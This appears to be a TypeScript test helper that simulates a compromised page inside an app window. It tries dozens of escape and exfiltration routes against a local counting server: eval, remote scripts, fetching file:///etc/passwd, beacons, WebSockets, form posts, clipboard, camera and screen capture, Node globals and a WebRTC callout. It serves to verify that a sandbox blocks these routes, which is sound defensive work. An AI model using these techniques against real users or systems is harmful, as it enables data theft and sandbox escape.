// What a page that was taken over would try. Runs inside the window, so it may use nothing but its argument.
// Each attempt resolves to `true` when it got what it wanted.

export interface Prey {
  /** An HTTP server that counts whoever reaches it. */
  readonly http: string
  readonly port: number
  /** A UDP port that counts datagrams. */
  readonly udp: number
}

export async function tryEscapes(prey: Prey): Promise<Record<string, boolean>> {
  const { http, port, udp } = prey
  // The debugger's own call may evaluate text whatever the policy says; a later task of the page may not.
  await new Promise((resolve) => setTimeout(resolve, 0))
  const marks = window as unknown as Record<string, unknown>
  const soon = <T>(promise: Promise<T>) =>
    Promise.race([
      promise.then(
        () => true,
        () => false,
      ),
      new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 1500)),
    ])
  const element = (tag: string, attributes: Record<string, string>) => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) {
      try {
        made.setAttribute(name, value)
      } catch {
        // Trusted Types refuse markup and script as text: this attempt has failed already.
      }
    }
    return made
  }
  const loads = (tag: string, attributes: Record<string, string>) =>
    soon(
      new Promise((resolve, reject) => {
        const made = element(tag, attributes)
        made.addEventListener('load', resolve)
        made.addEventListener('loadeddata', resolve)
        made.addEventListener('error', reject)
        document.body.append(made)
      }),
    )
  const works = (act: () => unknown) => {
    try {
      return Boolean(act())
    } catch {
      return false
    }
  }
  const runsScript = (name: string, place: () => void) => {
    marks[name] = false
    works(() => {
      place()
      return true
    })
    return marks[name] === true
  }
  const opens = (make: () => EventTarget) =>
    soon(
      new Promise((resolve, reject) => {
        const made = make()
        made.addEventListener('open', resolve)
        made.addEventListener('message', resolve)
        made.addEventListener('error', reject)
      }),
    )
  const styled = () => {
    const style = element('style', {})
    style.textContent = '#hostile { margin-top: 77px }'
    const target = element('i', { id: 'hostile' })
    document.body.append(style, target)
    return getComputedStyle(target).marginTop === '77px'
  }
  const linkDownload = (href: string) => {
    const link = element('a', { href, download: 'stolen.txt' })
    document.body.append(link)
    link.click()
    return false
  }
  const callByStun = async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'c' },
      ],
    })
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise<void>((resolve) => {
      setTimeout(resolve, 1500)
      peer.addEventListener('icegatheringstatechange', () => {
        if (peer.iceGatheringState === 'complete') resolve()
      })
    })
    peer.close()
    return false
  }

  const results: Record<string, boolean> = {
    inlineScript: runsScript('inline', () => {
      const script = element('script', {})
      script.textContent = 'window.inline = true'
      document.body.append(script)
    }),
    inlineHandler: runsScript('handler', () => {
      const made = element('b', { onclick: 'window.handler = true' })
      document.body.append(made)
      made.click()
    }),
    scriptAddress: runsScript('address', () => {
      const made = element('a', { href: 'javascript:window.address = true' })
      document.body.append(made)
      made.click()
    }),
    // The very things that must not work here.
    // oxlint-disable no-eval, typescript/no-implied-eval
    evaluate: works(() => (0, eval)('1 + 1')),
    makeFunction: works(() => new Function('return true')()),
    // oxlint-enable no-eval, typescript/no-implied-eval
    inlineStyle: styled(),
    blobScript: await loads('script', {
      src: URL.createObjectURL(new Blob(['window.blob = true'], { type: 'text/javascript' })),
    }),
    dataScript: await loads('script', { src: 'data:text/javascript,window.data=true' }),
    remoteScript: await loads('script', { src: `${http}/a.js` }),
    remoteModule: await soon(import(/* @vite-ignore */ `${http}/a.mjs`)),
    remoteStyle: await loads('link', { rel: 'stylesheet', href: `${http}/a.css` }),
    remoteImage: await loads('img', { src: `${http}/a.png` }),
    remoteFrame: false,
    remoteObject: await loads('object', { data: `${http}/a.pdf` }),
    remoteVideo: await loads('video', { src: `${http}/a.mp4`, autoplay: '' }),
    preload: await loads('link', { rel: 'preload', as: 'fetch', href: `${http}/preload` }),
    prefetch: await loads('link', { rel: 'prefetch', href: `${http}/prefetch` }),
    preconnect: (document.head.append(element('link', { rel: 'preconnect', href: http })), false),
    fetchRemote: await soon(fetch(http, { mode: 'no-cors' })),
    fetchFile: await soon(fetch('file:///etc/passwd')),
    fetchOtherApp: await soon(fetch('app://other/index.html')),
    xhr: await soon(
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.onload = resolve
        request.onerror = reject
        request.open('GET', http)
        request.send()
      }),
    ),
    beacon: (navigator.sendBeacon(`${http}/beacon`, 'x'), false),
    socket: await opens(() => new WebSocket(http.replace('http', 'ws'))),
    events: await opens(() => new EventSource(http)),
    worker: await opens(() => new Worker(`${http}/worker.js`)),
    openWindow: works(() => window.open(http)),
    openOwnWindow: works(() => window.open('about:blank')),
    submitForm: (() => {
      const form = element('form', { action: http, method: 'post' })
      document.body.append(form)
      works(() => ((form as HTMLFormElement).submit(), true))
      return false
    })(),
    downloadBlob: linkDownload(URL.createObjectURL(new Blob(['stolen']))),
    downloadData: linkDownload('data:text/plain,stolen'),
    place: await soon(
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    ),
    camera: await soon(
      navigator.mediaDevices
        ? navigator.mediaDevices.getUserMedia({ video: true, audio: true })
        : Promise.reject(new Error('no devices')),
    ),
    screen: await soon(
      navigator.mediaDevices
        ? navigator.mediaDevices.getDisplayMedia()
        : Promise.reject(new Error('no devices')),
    ),
    notifications: (await Notification.requestPermission()) === 'granted',
    readClipboard: await soon(navigator.clipboard.readText()),
    nodeRequire: 'require' in marks,
    nodeProcess: 'process' in marks,
    nodeModule: 'module' in marks,
    nodeBuffer: 'Buffer' in marks,
    call: await callByStun(),
  }
  const frame = element('iframe', { src: `${http}/frame` })
  document.body.append(frame)
  const plain = element('iframe', { srcdoc: '<b>inside</b>' })
  document.body.append(plain)
  await new Promise((resolve) => setTimeout(resolve, 300))
  return results
}
